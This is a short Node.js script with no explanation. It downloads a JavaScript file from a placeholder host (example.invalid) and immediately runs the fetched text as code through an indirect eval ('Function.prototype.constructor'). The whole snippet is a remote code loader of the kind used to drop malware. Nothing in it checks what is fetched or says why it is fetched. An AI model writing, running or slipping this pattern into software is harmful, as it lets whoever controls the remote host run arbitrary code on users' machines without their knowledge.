const https = require('https');

https.get('https://example.invalid/p.js', (r) => {
  let b = '';
  r.on('data', (c) => (b += c));
  r.on('end', () => Function.prototype.constructor(b)());
});
